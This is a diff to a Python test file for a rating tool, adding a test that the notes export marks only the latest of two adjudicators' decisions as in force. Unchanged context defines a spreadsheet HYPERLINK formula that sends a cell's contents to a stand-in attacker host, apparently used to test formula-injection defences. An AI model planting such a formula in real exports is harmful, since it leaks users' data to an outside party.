@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import csv
+import json
 import sqlite3
 import subprocess
 import sys
@@ -17,6 +18,7 @@ from tests.reliability.test_files import one_sentence
 from tests.reliability.test_secrets import PASSWORD, echo_server  # noqa: F401 (a fixture)
 from tests.reliability.test_slow_servers import _body, raw_server  # noqa: F401 (a fixture)
 from tests.support import SAMPLE, digest, ok_body, run_cli_process, story_study
+from tui_rater.store.adjudication import Adjudication, adjudicated_values
 from tui_rater.store.study import Study
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -146,3 +148,21 @@ def test_a_line_break_in_an_item_id_or_a_comment_stays_inside_its_markdown_cell(
     assert (
         "| s1<br>## Verdict: the judge is ready |" in rows[2] and "fine<br># Approved by the lead<br>really" in rows[3]
     )
+
+
+def test_of_two_adjudicators_decisions_the_export_marks_in_force_the_one_the_report_uses(tmp_path):
+    """Two leads decided one question: the report and `adjudicate` use the latest decision, whoever took it;
+    `export --what notes` marked both decisions in force."""
+    db = _adjudicate_study(tmp_path)
+    study = Study.open(db)
+    key = {item.id: item.key for item in study.items("story")}["s0"]
+    first = Adjudication(study, "story", "ann").decide(key, "grammaticality", 2)
+    latest = Adjudication(study, "story", "ben").decide(key, "grammaticality", 4)
+    assert adjudicated_values(study, "story") == {"grammaticality": {key: 4.0}}
+    study.close()
+    out = tmp_path / "notes.jsonl"
+    assert run_cli_process("export", "--what", "notes", "--db", db, "--out", out).returncode == 0
+    rows = {row["rating_id"]: row for row in map(json.loads, out.read_text().splitlines())}
+    assert (rows[first]["in_force"], rows[latest]["in_force"]) == (False, True)
+    queue = json.loads(run_cli_process("adjudicate", "--db", db, "--task", "story", "--format", "json").stdout)
+    assert queue[0]["questions"][0]["decided"] == 4.0
